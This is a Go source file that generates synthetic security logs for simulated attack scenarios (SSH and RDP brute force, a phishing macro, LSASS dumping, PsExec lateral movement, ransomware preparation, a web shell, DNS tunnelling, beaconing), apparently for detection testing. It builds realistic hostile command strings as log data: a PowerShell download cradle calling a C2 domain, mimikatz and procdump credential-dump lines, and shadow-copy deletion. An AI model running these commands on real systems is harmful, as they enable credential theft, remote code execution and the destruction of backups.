package simulate

import (
	"strconv"
	"time"
)

// scenarioDef is a scenario and how to play it: plan draws its parameters (with g.r set
// to the instance's own source) and returns its steps; each step's delay is counted
// from the previous step.
type scenarioDef struct {
	Scenario
	plan func(g *Generator, r *run) []step
}

var scenarioDefs = []scenarioDef{
	{Scenario{"ssh-bruteforce", "15-40 failed SSH passwords and invalid users from one attacker address within a minute against one Linux server, sometimes ending in a successful login.",
		[]string{"T1110.001"}}, planSSHBruteforce},
	{Scenario{"rdp-bruteforce", "12-30 failed Windows logons (type 3 or 10) from one attacker address within two minutes against an exposed server, spraying five or more user names.",
		[]string{"T1110.001", "T1110.003"}}, planRDPBruteforce},
	{Scenario{"phishing-macro", "A user opens a macro document from Outlook; Word starts PowerShell with a download cradle, which resolves and contacts the C2 server.",
		[]string{"T1566.001", "T1059.001", "T1105"}}, planPhishingMacro},
	{Scenario{"lsass-dump", "An attacker tool in a user-writable folder opens lsass.exe (0x1010/0x1410) to dump credentials, sometimes followed by a comsvcs.dll MiniDump.",
		[]string{"T1003.001"}}, planLsassDump},
	{Scenario{"psexec-lateral", "A network logon from another internal host, the PSEXESVC service installed, and a command run under it.",
		[]string{"T1021.002", "T1569.002"}}, planPsexecLateral},
	{Scenario{"ransomware-prep", "Shadow copies, the backup catalogue and boot recovery deleted or disabled, as ransomware does before encrypting.",
		[]string{"T1490"}}, planRansomwarePrep},
	{Scenario{"web-shell", "A PHP web shell uploaded to the public web server and used to run commands; on IIS the commands run under w3wp.exe.",
		[]string{"T1505.003"}}, planWebShell},
	{Scenario{"dns-tunnelling", "25-60 DNS queries within two minutes from one host for long random names under one attacker domain.",
		[]string{"T1071.004", "T1048"}}, planDNSTunnelling},
	{Scenario{"beaconing", "35-80 connections from one implant process to one C2 address on port 443 at a regular interval (jitter ±10%), within two to three minutes.",
		[]string{"T1071.001", "T1573"}}, planBeaconing},
}

// Suricata signatures of the scenarios (illustrative ids in the ET ranges).
var (
	sigSSHScan   = signature{2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2}
	sigRDPBrute  = signature{2034854, 1, "ET SCAN Possible RDP Brute Force Attempt (Inbound)", "Attempted Administrator Privilege Gain", 1}
	sigPSCradle  = signature{2031725, 2, "ET HUNTING PowerShell WebClient DownloadString Request", "Potentially Bad Traffic", 2}
	sigPsExec    = signature{2035456, 1, "ET POLICY PsExec Service Binary Transfer via SMB", "Potential Corporate Privacy Violation", 1}
	sigWebShell  = signature{2016678, 3, "ET WEB_SERVER Generic Webshell Command Execution (cmd= parameter)", "Web Application Attack", 1}
	sigDNSTunnel = signature{2033145, 1, "ET INFO Possible DNS Tunnelling - Long Subdomain TXT Query", "Potentially Bad Traffic", 2}
	sigBeacon    = signature{2027082, 3, "ET TROJAN Generic HTTPS CnC Beacon (Periodic TLS Connections)", "A Network Trojan was detected", 1}
)

var invalidUsers = []string{"admin", "test", "oracle", "ubuntu", "user", "postgres", "git", "ftpuser", "guest", "pi", "support", "hadoop", "mysql", "nagios", "jenkins"}

var sprayUsers = []string{"administrator", "admin", "user", "test", "scanner", "backup", "guest", "support", "sql", "helpdesk"}

const (
	imgW3wp    = `c:\windows\system32\inetsrv\w3wp.exe`
	w3wpCmd    = `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm5a1b2c3d-0e4f-4a5b-9c6d-7e8f9a0b1c2d -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0 -t 20 -ta 0`
	imgLsass   = `C:\Windows\system32\lsass.exe`
	imgRundll  = `C:\Windows\System32\rundll32.exe`
	imgPsexesv = `C:\Windows\PSEXESVC.exe`
)

// steps collects a scenario's steps.
type steps []step

func (s *steps) add(after time.Duration, do func(t time.Time)) { *s = append(*s, step{after, do}) }

// secs is a uniform random duration in [lo, hi) seconds.
func (g *Generator) secs(lo, hi float64) time.Duration {
	return time.Duration((lo + (hi-lo)*g.r.Float64()) * float64(time.Second))
}

// jitter is d ± frac·d.
func (g *Generator) jitter(d time.Duration, frac float64) time.Duration {
	return time.Duration(float64(d) * (1 - frac + 2*frac*g.r.Float64()))
}

func (g *Generator) ephemeral() int { return 49152 + g.r.IntN(16000) }

func (g *Generator) orgAccount(s *site) (user, account string) {
	u := s.Users[g.r.IntN(len(s.Users))]
	return u, s.netbios + `\` + u
}

func planSSHBruteforce(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := &s.lin[rng.IntN(len(s.lin))]
	ip := r.grp.source(rng)
	n := 15 + rng.IntN(26)
	gap := g.secs(20, 40) / time.Duration(n)
	var st steps
	if s.Sensor != "" {
		f := flow{srcIP: ip, srcPort: g.ephemeral(), dstIP: h.ip, dstPort: 22}
		st.add(0, func(t time.Time) { g.eveAlert(s, t, &f, &sigSSHScan, "ssh") })
	}
	d := time.Duration(0)
	for lines := 0; lines < n; {
		port, pid := 32768+rng.IntN(28000), 10000+rng.IntN(50000)
		switch x := rng.IntN(20); {
		case x < 8:
			st.add(d, func(t time.Time) { g.sshd(s, h, t, pid, "Failed password for ", "root", ip, port, " ssh2") })
			lines++
		case x < 18:
			user := invalidUsers[rng.IntN(len(invalidUsers))]
			st.add(d, func(t time.Time) { g.sshd(s, h, t, pid, "Invalid user ", user, ip, port, "") })
			st.add(g.jitter(gap, 0.25), func(t time.Time) {
				g.sshd(s, h, t, pid, "Failed password for invalid user ", user, ip, port, " ssh2")
			})
			lines += 2
		default:
			user := s.admins[0]
			st.add(d, func(t time.Time) { g.sshd(s, h, t, pid, "Failed password for ", user, ip, port, " ssh2") })
			lines++
		}
		d = g.jitter(gap, 0.25)
	}
	if rng.IntN(10) < 3 { // the password was weak
		user := []string{"root", s.admins[0]}[rng.IntN(2)]
		port, pid := 32768+rng.IntN(28000), 10000+rng.IntN(50000)
		st.add(d, func(t time.Time) { g.sshd(s, h, t, pid, "Accepted password for ", user, ip, port, " ssh2") })
		uid := "0"
		if user != "root" {
			uid = "1001"
		}
		st.add(30*time.Millisecond, func(t time.Time) {
			g.syslogMsg(s, h, t, facAuthpriv, sevInfo, "sshd", pid, "pam_unix(sshd:session): session opened for user ", user, "(uid=", uid, ") by (uid=0)")
		})
	}
	return st
}

func planRDPBruteforce(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := &s.win[s.rds]
	ip := r.grp.source(rng)
	n := 12 + rng.IntN(19)
	gap := g.secs(40, 85) / time.Duration(n)
	l := logon{logonType: 3, ip: ip, process: "NtLmSsp", pkg: "NTLM", domain: s.netbios}
	if rng.IntN(2) == 0 {
		l.logonType = 10
		l.process, l.pkg = "User32", "Negotiate"
	}
	l.workstation = []string{"kali", "DESKTOP-" + randomUpper(rng, 7), "WIN-" + randomUpper(rng, 11), "-"}[rng.IntN(4)]
	// Spray a mix of generic names and real ones.
	cands := append([]string(nil), sprayUsers...)
	real := map[string]bool{}
	for range 3 {
		u := s.Users[rng.IntN(len(s.Users))]
		if !real[u] {
			real[u] = true
			cands = append(cands, u)
		}
	}
	rng.Shuffle(len(cands), func(i, j int) { cands[i], cands[j] = cands[j], cands[i] })
	users := cands[:5+rng.IntN(min(n, len(cands))-4)]
	var st steps
	if s.Sensor != "" {
		f := flow{srcIP: ip, srcPort: g.ephemeral(), dstIP: h.ip, dstPort: 3389}
		st.add(0, func(t time.Time) { g.eveAlert(s, t, &f, &sigRDPBrute, "rdp") })
	}
	d := time.Duration(0)
	for i := range n {
		a := l
		a.user, a.port = users[i%len(users)], g.ephemeral()
		if !real[a.user] {
			a.subStatus = "0xc0000064" // no such user
		}
		st.add(d, func(t time.Time) { g.securityLogon(s, h, t, &a, false) })
		d = g.jitter(gap, 0.25)
	}
	if rng.IntN(100) < 15 {
		for _, u := range users {
			if real[u] {
				a := l
				a.user, a.port, a.logonType = u, g.ephemeral(), 10
				a.process, a.pkg = "User32", "Negotiate"
				st.add(d, func(t time.Time) { g.securityLogon(s, h, t, &a, true) })
				break
			}
		}
	}
	return st
}

func planPhishingMacro(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := s.workstation(rng)
	home := `C:\Users\` + h.user
	domain, c2 := r.grp.c2(rng)
	docs := []string{"Invoice_" + strconv.Itoa(1000+rng.IntN(9000)) + ".docm", "Payment_Details.doc", "Salary_Review_2026.docm", "Parcel_Notice.doc"}
	doc := home + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + randomUpper(rng, 8) + `\` + docs[rng.IntN(len(docs))]
	script := []string{"a.ps1", "update.ps1", "s.ps1", "invoice.ps1"}[rng.IntN(4)]
	url := "http://" + domain + "/" + script
	cradle := `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('` + url + `')"`
	wordCmd := `"` + imgWord + `" /n "` + doc + `" /o ""`
	outlookPID, wordPID, psPID := g.pid(), g.pid(), g.pid()
	psGUID := [2]uint64{rng.Uint64(), rng.Uint64()}
	word := proc{image: imgWord, cmd: wordCmd, cwd: home + `\Documents\`, parentImage: imgOutlook, parentCmd: `"` + imgOutlook + `" `,
		user: h.account, pid: wordPID, ppid: outlookPID}
	ps := proc{image: imgPowershell, cmd: cradle, cwd: home + `\Documents\`, parentImage: imgWord, parentCmd: wordCmd,
		user: h.account, pid: psPID, ppid: wordPID, guid: psGUID}
	conn := netConn{image: imgPowershell, user: h.account, pid: psPID, guid: psGUID, srcIP: h.ip, srcPort: g.ephemeral(),
		dstIP: c2, dstHost: domain, dstPort: 80}
	var st steps
	st.add(0, func(t time.Time) { g.sysmonFile(s, h, t, imgOutlook, h.account, outlookPID, doc) })
	st.add(g.secs(3, 12), func(t time.Time) { g.sysmonProcess(s, h, t, &word) })
	st.add(g.secs(4, 10), func(t time.Time) { g.sysmonProcess(s, h, t, &ps) })
	st.add(g.secs(0.01, 0.1), func(t time.Time) { p := ps; g.securityProcess(s, h, t, &p) })
	st.add(g.secs(0.3, 1), func(t time.Time) {
		g.sysmonDNS(s, h, t, imgPowershell, h.account, psPID, psGUID, domain, "0", "::ffff:"+c2+";")
	})
	st.add(g.secs(0.05, 0.3), func(t time.Time) { g.sysmonNetwork(s, h, t, &conn) })
	if s.Sensor != "" {
		f := flow{srcIP: h.ip, srcPort: conn.srcPort, dstIP: c2, dstPort: 80}
		ua := "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.5129"
		st.add(g.secs(0.05, 0.2), func(t time.Time) { g.eveHTTP(s, t, &f, domain, "/"+script, ua, "GET", 200, 4000+rng.IntN(40000)) })
		st.add(g.secs(0.01, 0.05), func(t time.Time) { g.eveAlert(s, t, &f, &sigPSCradle, "http") })
	}
	return st
}

func planLsassDump(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := s.workstation(rng)
	if rng.IntN(10) < 6 {
		h = s.server(rng)
	}
	_, account := g.orgAccount(s)
	lsass := strconv.Itoa(h.lsassPID)
	tools := []struct{ image, cmd, dump string }{
		{`C:\Users\Public\procdump64.exe`, `C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp`, `C:\Users\Public\lsass.dmp`},
		{`C:\ProgramData\m.exe`, `C:\ProgramData\m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, ""},
		{`C:\Windows\Temp\dump64.exe`, `C:\Windows\Temp\dump64.exe --pid ` + lsass + ` -o C:\Windows\Temp\d.bin`, `C:\Windows\Temp\d.bin`},
		{`C:\Users\Public\Libraries\pd.exe`, `C:\Users\Public\Libraries\pd.exe -ma ` + lsass + ` out.dmp`, `C:\Users\Public\Libraries\out.dmp`},
	}
	tool := tools[rng.IntN(len(tools))]
	toolPID, cmdPID := g.pid(), g.pid()
	p := proc{image: tool.image, cmd: tool.cmd, cwd: `C:\Windows\Temp\`, parentImage: imgCmd, parentCmd: `"C:\Windows\system32\cmd.exe" `,
		user: account, integrity: "High", pid: toolPID, ppid: cmdPID}
	a := procAccess{sourceImage: tool.image, sourceUser: account, targetImage: imgLsass, targetUser: userSystem,
		sourcePID: toolPID, targetPID: h.lsassPID, access: []string{"0x1010", "0x1410"}[rng.IntN(2)],
		callTrace: `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbghelp.dll+1b1c4|UNKNOWN(00007FF6` +
			randomUpper(rng, 8) + `)`}
	var st steps
	st.add(0, func(t time.Time) { g.sysmonProcess(s, h, t, &p) })
	st.add(g.secs(0.2, 1.5), func(t time.Time) { g.sysmonAccess(s, h, t, &a) })
	if tool.dump != "" {
		st.add(g.secs(0.5, 2), func(t time.Time) { g.sysmonFile(s, h, t, tool.image, account, toolPID, tool.dump) })
	}
	if rng.IntN(2) == 0 {
		rd := proc{image: imgRundll, cmd: `C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump ` + lsass + ` C:\Windows\Temp\lsass.dmp full`,
			cwd: `C:\Windows\Temp\`, parentImage: imgPowershell, parentCmd: `powershell.exe`, user: account, integrity: "High"}
		st.add(g.secs(5, 20), func(t time.Time) { g.sysmonProcess(s, h, t, &rd) })
		st.add(g.secs(0.5, 2), func(t time.Time) { g.sysmonFile(s, h, t, imgRundll, account, rd.pid, `C:\Windows\Temp\lsass.dmp`) })
	}
	return st
}

func planPsexecLateral(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	target := s.server(rng)
	src := s.workstation(rng)
	user, _ := g.orgAccount(s)
	l := logon{user: user, domain: s.netbios, logonType: 3, ip: src.ip, port: g.ephemeral(), workstation: src.name, process: "NtLmSsp", pkg: "NTLM"}
	svcPID := g.pid()
	svc := proc{image: imgPsexesv, cmd: imgPsexesv, cwd: `C:\Windows\system32\`, parentImage: imgServices, parentCmd: `C:\Windows\system32\services.exe`,
		user: userSystem, integrity: "System", pid: svcPID}
	cmds := []string{`cmd.exe /c whoami`, `cmd.exe /c whoami /all`}
	shell := proc{image: imgCmd, cmd: cmds[rng.IntN(len(cmds))], parentImage: imgPsexesv, parentCmd: imgPsexesv,
		user: userSystem, integrity: "System", ppid: svcPID}
	var st steps
	st.add(0, func(t time.Time) { g.securityLogon(s, target, t, &l, true) })
	st.add(g.secs(1, 6), func(t time.Time) { g.sysmonFile(s, target, t, imgSystem, userSystem, 4, imgPsexesv) })
	if s.Sensor != "" {
		f := flow{srcIP: src.ip, srcPort: l.port, dstIP: target.ip, dstPort: 445}
		st.add(g.secs(0.01, 0.1), func(t time.Time) { g.eveAlert(s, t, &f, &sigPsExec, "smb") })
	}
	st.add(g.secs(0.5, 3), func(t time.Time) {
		g.serviceInstall(s, target, t, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start", "LocalSystem")
	})
	st.add(g.secs(0.5, 3), func(t time.Time) { g.sysmonProcess(s, target, t, &svc) })
	st.add(g.secs(1, 8), func(t time.Time) { g.sysmonProcess(s, target, t, &shell) })
	return st
}

func planRansomwarePrep(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := s.server(rng)
	if rng.IntN(10) < 3 {
		h = s.workstation(rng)
	}
	_, account := g.orgAccount(s)
	parentCmd := `C:\Windows\system32\cmd.exe /c C:\ProgramData\` + []string{"prep.bat", "x.bat", "svc.cmd"}[rng.IntN(3)]
	ppid := g.pid()
	list := []proc{
		{image: `C:\Windows\System32\vssadmin.exe`, cmd: `vssadmin.exe Delete Shadows /All /Quiet`},
		{image: `C:\Windows\System32\wbem\WMIC.exe`, cmd: `wmic.exe shadowcopy delete`},
		{image: `C:\Windows\System32\bcdedit.exe`, cmd: `bcdedit.exe /set {default} recoveryenabled No`},
		{image: `C:\Windows\System32\wbadmin.exe`, cmd: `wbadmin.exe delete catalog -quiet`},
	}
	var st steps
	for i := range list {
		p := list[i]
		p.cwd, p.parentImage, p.parentCmd, p.user, p.integrity, p.ppid = `C:\ProgramData\`, imgCmd, parentCmd, account, "High", ppid
		d := g.secs(0.5, 3)
		if i == 0 {
			d = 0
		}
		st.add(d, func(t time.Time) { g.sysmonProcess(s, h, t, &p) })
		if i == 0 {
			st.add(g.secs(0.01, 0.1), func(t time.Time) { q := p; g.securityProcess(s, h, t, &q) })
		}
	}
	return st
}

func planWebShell(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	ip := r.grp.source(rng)
	ua := []string{"python-requests/2.31.0", "curl/8.4.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"}[rng.IntN(3)]
	type req struct{ method, target, cmd string }
	reqs := []req{
		{"POST", "/uploads/shell.php", ""},
		{"GET", "/uploads/shell.php?cmd=whoami", "cmd.exe /c whoami"},
		{"GET", "/uploads/shell.php?cmd=net+user", "cmd.exe /c net user"},
		{"GET", "/uploads/shell.php?cmd=cat+/etc/passwd", ""},
	}
	if s.IIS {
		reqs = append(reqs, req{"GET", "/uploads/shell.php?cmd=ipconfig+/all", "cmd.exe /c ipconfig /all"})
	}
	var st steps
	d := time.Duration(0)
	for i, q := range reqs {
		a := access{ip: ip, method: q.method, target: q.target, status: 200, size: 20 + rng.IntN(3000), ua: ua}
		st.add(d, func(t time.Time) { g.accessLog(s, t, &a) })
		if i == 1 && s.Sensor != "" {
			f := flow{srcIP: ip, srcPort: g.ephemeral(), dstIP: s.lin[s.web].ip, dstPort: 80}
			st.add(g.secs(0.001, 0.01), func(t time.Time) { g.eveAlert(s, t, &f, &sigWebShell, "http") })
		}
		if s.IIS && q.cmd != "" {
			h := &s.win[s.iisHost]
			p := proc{image: imgCmd, cmd: q.cmd, cwd: `C:\inetpub\wwwroot\uploads\`, parentImage: imgW3wp, parentCmd: w3wpCmd,
				user: `IIS APPPOOL\DefaultAppPool`, integrity: "High"}
			st.add(g.secs(0.01, 0.2), func(t time.Time) { g.sysmonProcess(s, h, t, &p) })
		}
		d = g.secs(2, 12)
	}
	return st
}

func planDNSTunnelling(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := s.workstation(rng)
	images := []string{`C:\Users\` + h.user + `\AppData\Local\Temp\dnsclient.exe`, `C:\ProgramData\SyncSvc\syncsvc.exe`, `C:\Windows\System32\nslookup.exe`}
	img := images[rng.IntN(len(images))]
	pid, guid := g.pid(), [2]uint64{rng.Uint64(), rng.Uint64()}
	tunnel := tunnelDomain
	n := 25 + rng.IntN(36)
	gap := g.secs(60, 110) / time.Duration(n)
	alphabet := "abcdefghijklmnopqrstuvwxyz234567"
	if rng.IntN(3) == 0 {
		alphabet = hexDigits
	}
	resolver := s.win[s.dc].ip
	var st steps
	d := time.Duration(0)
	for i := range n {
		b := make([]byte, 0, 64+len(tunnel))
		for range 40 + rng.IntN(17) {
			b = append(b, alphabet[rng.IntN(len(alphabet))])
		}
		b = append(b, '.')
		name := string(append(b, tunnel...))
		st.add(d, func(t time.Time) { g.sysmonDNS(s, h, t, img, h.account, pid, guid, name, "0", "-") })
		if s.Sensor != "" {
			f := flow{srcIP: h.ip, dstIP: resolver, dstPort: 53, udp: true}
			answer := "TXT 32 " + randomUpper(rng, 32)
			st.add(g.secs(0.001, 0.05), func(t time.Time) { g.zeekDNS(s, t, &f, name, "TXT", answer) })
			if i == 3 {
				st.add(g.secs(0.001, 0.01), func(t time.Time) { g.eveAlert(s, t, &f, &sigDNSTunnel, "dns") })
			}
		}
		d = g.jitter(gap, 0.3)
	}
	return st
}

func planBeaconing(g *Generator, r *run) []step {
	s, rng := r.s, g.r
	h := s.workstation(rng)
	domain, c2 := r.grp.c2(rng)
	pid := g.pid()
	guid := [2]uint64{rng.Uint64(), rng.Uint64()}
	var implant proc
	if rng.IntN(2) == 0 {
		img := `C:\Users\` + h.user + `\AppData\Local\Temp\svchost.exe`
		implant = proc{image: img, cmd: img, cwd: `C:\Users\` + h.user + `\AppData\Local\Temp\`, parentImage: imgExplorer,
			parentCmd: `C:\Windows\Explorer.EXE`, user: h.account, pid: pid, guid: guid}
	} else {
		dll := `C:\Users\` + h.user + `\AppData\Roaming\` + []string{"update.dll", "msvcp_win.dll", "libcurl.dll"}[rng.IntN(3)]
		implant = proc{image: imgRundll, cmd: `rundll32.exe ` + dll + `,DllRegisterServer`, cwd: `C:\Users\` + h.user + `\`,
			parentImage: imgExplorer, parentCmd: `C:\Windows\Explorer.EXE`, user: h.account, pid: pid, guid: guid}
	}
	n := 35 + rng.IntN(46)
	interval := g.secs(120, 170) / time.Duration(n)
	hostName := domain
	if rng.IntN(3) == 0 {
		hostName = "" // no reverse name in the cache
	}
	var st steps
	st.add(0, func(t time.Time) { g.sysmonProcess(s, h, t, &implant) })
	st.add(g.secs(0.5, 2), func(t time.Time) {
		g.sysmonDNS(s, h, t, implant.image, h.account, pid, guid, domain, "0", "::ffff:"+c2+";")
	})
	port := g.ephemeral()
	d := g.secs(0.1, 0.5)
	for i := range n {
		c := netConn{image: implant.image, user: h.account, pid: pid, guid: guid, srcIP: h.ip, srcPort: port + i, dstIP: c2, dstHost: hostName, dstPort: 443}
		st.add(d, func(t time.Time) { g.sysmonNetwork(s, h, t, &c) })
		if s.Sensor != "" {
			f := flow{srcIP: h.ip, srcPort: port + i, dstIP: c2, dstPort: 443}
			st.add(g.secs(0.2, 0.6), func(t time.Time) {
				g.zeekConn(s, t, &f, "ssl", g.secs(0.1, 0.5), 400+g.r.IntN(300), 200+g.r.IntN(300), "SF")
			})
			if i == 10 {
				st.add(g.secs(0.001, 0.01), func(t time.Time) { g.eveAlert(s, t, &f, &sigBeacon, "tls") })
			}
			d = g.jitter(interval, 0.1) - st[len(st)-1].after
			if i == 10 {
				d -= st[len(st)-2].after
			}
			continue
		}
		d = g.jitter(interval, 0.1)
	}
	return st
}
